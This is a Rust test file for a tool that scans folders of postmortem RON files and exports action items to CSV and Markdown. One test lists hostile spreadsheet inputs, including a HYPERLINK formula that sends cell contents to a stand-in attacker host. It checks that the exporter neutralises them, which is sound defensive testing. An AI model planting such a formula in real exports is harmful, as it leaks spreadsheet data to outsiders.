//! The review of a folder built here: nested folders, a broken file, another program's RON
//! file, and two postmortems whose owners overlap.

use std::fs;
use std::path::Path;

use chrono::NaiveDate;

use super::*;
use crate::example::EXAMPLE_RON;
use crate::model::ActionStatus;

fn today() -> NaiveDate {
    NaiveDate::from_ymd_opt(2025, 8, 10).unwrap()
}

/// The example, a second postmortem with overlapping owners in a subfolder, a broken file,
/// a settings file and a hidden folder that must be skipped.
fn folder() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    fs::write(dir.path().join("latency.ron"), EXAMPLE_RON).unwrap();
    fs::create_dir_all(dir.path().join("2025/august")).unwrap();
    let second = r#"(
    format_version: 1,
    title: "Checkout errors, \"payments\" down",
    incident_id: "INC-700",
    classification: (severity: Some("SEV-1")),
    action_items: [
        (action: "Add a retry, with backoff", owner: "priya l.", due: Some("2025-08-09"), status: InProgress),
        (action: "Write the runbook", owner: "Dana S.", due: Some("2025-09-30"), status: Done, completed: Some("2025-08-08")),
        (action: "Decide on a vendor", owner: "Dana S."),
    ],
)"#;
    fs::write(dir.path().join("2025/august/checkout.ron"), second).unwrap();
    fs::write(
        dir.path().join("2025/broken.ron"),
        "(format_version: 1, title: ",
    )
    .unwrap();
    fs::write(dir.path().join("settings.ron"), "(theme: \"dark\")").unwrap();
    fs::create_dir_all(dir.path().join(".git")).unwrap();
    fs::write(dir.path().join(".git/ignored.ron"), EXAMPLE_RON).unwrap();
    fs::write(dir.path().join("notes.md"), "# not ron").unwrap();
    dir
}

fn scanned(dir: &Path) -> FolderScan {
    scan_folder(dir, &ScanProgress::default()).unwrap()
}

#[test]
fn every_item_of_every_postmortem_below_the_folder() {
    let dir = folder();
    let scan = scanned(dir.path());
    assert_eq!(scan.postmortems, 2);
    assert_eq!(scan.items.len(), 9);
    assert_eq!(scan.not_postmortems.len(), 1);
    assert_eq!(scan.unreadable.len(), 1);
    let (path, error) = &scan.unreadable[0];
    assert!(path.ends_with("2025/broken.ron"));
    assert!(error.contains("broken.ron:1:"), "{error}");
    assert!(!scan.cancelled);
}

#[test]
fn a_missing_folder_is_an_error() {
    assert!(scan_folder(Path::new("/no/such/folder"), &ScanProgress::default()).is_err());
}

#[test]
fn a_cancelled_scan_says_so() {
    let dir = folder();
    let progress = ScanProgress::default();
    let files = find_postmortem_files(dir.path(), &progress).unwrap().files;
    assert_eq!(progress.found.load(std::sync::atomic::Ordering::Relaxed), 4);
    progress
        .cancel
        .store(true, std::sync::atomic::Ordering::Relaxed);
    let scan = scan_files(&files, &progress);
    assert!(scan.cancelled);
    assert!(scan.items.is_empty());
}

fn titles_after(query: &ReviewQuery, scan: &FolderScan) -> Vec<String> {
    query
        .run(&scan.items, today())
        .into_iter()
        .map(|index| scan.items[index].item.action.clone())
        .collect()
}

#[test]
fn filters_and_order() {
    let dir = folder();
    let scan = scanned(dir.path());
    let overdue = ReviewQuery {
        filter: crate::model::ActionFilter::Overdue,
        ..ReviewQuery::default()
    };
    assert_eq!(
        titles_after(&overdue, &scan),
        [
            "Add the index on orders.status in all environments and verify it through the migration scripts",
            "Review connection-pool sizing and auto-scaling policies and adjust the defaults",
            "Add a retry, with backoff",
        ]
    );
    let priya = ReviewQuery {
        owner: Some("Priya L.".to_owned()),
        ..ReviewQuery::default()
    };
    assert_eq!(
        titles_after(&priya, &scan).len(),
        3,
        "owners compare without case"
    );
    let within_week = ReviewQuery {
        due_within: Some(7),
        ..ReviewQuery::default()
    };
    assert_eq!(
        titles_after(&within_week, &scan).len(),
        5,
        "3 overdue + 2 due by 08-17"
    );
    let done = ReviewQuery {
        status: Some(ActionStatus::Done),
        ..ReviewQuery::default()
    };
    assert_eq!(titles_after(&done, &scan), ["Write the runbook"]);
    let everything = titles_after(&ReviewQuery::default(), &scan);
    assert_eq!(
        everything.last().map(String::as_str),
        Some("Decide on a vendor"),
        "undated last"
    );
}

#[test]
fn csv_quotes_commas_quotes_and_newlines() {
    let entry = ReviewItem {
        path: "a, b.ron".into(),
        incident_title: "Checkout \"payments\"\ndown".to_owned(),
        incident_id: "INC-1".to_owned(),
        severity: None,
        incident_date: None,
        tags: Vec::new(),
        item: crate::model::ActionItem {
            action: "Retry, then alert".to_owned(),
            ..crate::model::ActionItem::default()
        },
    };
    let text = to_csv(&[ReviewRecord::of(&entry, today())], false).unwrap();
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let headers = reader.headers().unwrap().clone();
    assert_eq!(headers.get(0), Some("file"));
    let row = reader.records().next().unwrap().unwrap();
    assert_eq!(row.get(0), Some("a, b.ron"));
    assert_eq!(row.get(2), Some("Checkout \"payments\"\ndown"));
    assert_eq!(row.get(4), Some("Retry, then alert"));
    assert!(
        text.contains("\"Checkout \"\"payments\"\"\ndown\""),
        "{text}"
    );
    assert!(to_csv(&[], false).unwrap().starts_with("file,incident_id,"));
}

#[test]
fn csv_cells_that_would_run_as_formulas_are_neutralised_unless_exact() {
    let hostile = [
        "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
        "+1+1",
        "-2+3",
        "@SUM(A1)",
        "\tindented",
        "\rreturn",
    ];
    for text in hostile {
        let entry = ReviewItem {
            path: "inc.ron".into(),
            incident_title: text.to_owned(),
            incident_id: String::new(),
            severity: None,
            incident_date: None,
            tags: Vec::new(),
            item: crate::model::ActionItem {
                action: text.to_owned(),
                owner: text.to_owned(),
                ..crate::model::ActionItem::default()
            },
        };
        let records = [ReviewRecord::of(&entry, today())];
        let read = |csv_text: String| {
            let mut reader = csv::Reader::from_reader(csv_text.as_bytes());
            reader.records().next().unwrap().unwrap()
        };
        let safe = read(to_csv(&records, false).unwrap());
        for column in [2, 4, 5] {
            assert_eq!(
                safe.get(column),
                Some(format!("'{text}").as_str()),
                "{text:?}"
            );
        }
        let exact = read(to_csv(&records, true).unwrap());
        assert_eq!(exact.get(4), Some(text), "{text:?}");
    }
}

#[test]
fn markdown_cells_cannot_break_the_table() {
    let entry = ReviewItem {
        path: "x.ron".into(),
        incident_title: "A | B\nC".to_owned(),
        incident_id: String::new(),
        severity: None,
        incident_date: None,
        tags: Vec::new(),
        item: crate::model::ActionItem {
            action: "<b>bold</b> *and* \\ back".to_owned(),
            ..crate::model::ActionItem::default()
        },
    };
    let text = to_markdown(&[ReviewRecord::of(&entry, today())]);
    let row = text.lines().nth(2).unwrap();
    assert_eq!(row.matches(" |").count(), 7, "{row}");
    assert!(row.contains("A \\| B<br>C"), "{row}");
    assert!(row.contains("\\<b>bold\\</b> \\*and\\* \\\\ back"), "{row}");
}

#[test]
fn a_declined_items_reason_goes_with_it_into_csv_and_markdown() {
    let entry = ReviewItem {
        path: "a.ron".into(),
        incident_title: "Checkout down".to_owned(),
        incident_id: "INC-1".to_owned(),
        severity: None,
        incident_date: None,
        tags: Vec::new(),
        item: crate::model::ActionItem {
            action: "Move logs".to_owned(),
            status: crate::model::ActionStatus::WontDo,
            declined_reason: "=covered by OPS-12".to_owned(),
            ..crate::model::ActionItem::default()
        },
    };
    let record = ReviewRecord::of(&entry, today());
    let text = to_csv(std::slice::from_ref(&record), false).unwrap();
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let headers = reader.headers().unwrap().clone();
    let at = headers
        .iter()
        .position(|name| name == "declined_reason")
        .unwrap();
    let row = reader.records().next().unwrap().unwrap();
    assert_eq!(row.get(at), Some("'=covered by OPS-12"), "formula-safe");
    let table = to_markdown(&[record]);
    assert!(
        table.contains("Won't do \u{2014} =covered by OPS-12"),
        "{table}"
    );
}

#[test]
fn an_empty_csv_has_the_header_a_full_one_has() {
    let empty = to_csv(&[], false).unwrap();
    let full = to_csv(&[ReviewRecord::default()], false).unwrap();
    assert_eq!(empty.lines().count(), 1);
    assert_eq!(empty.lines().next(), full.lines().next());
    assert!(empty.starts_with("file,incident_id,"), "{empty}");
    assert!(empty.ends_with("days_overdue,declined_reason\n"), "{empty}");
}
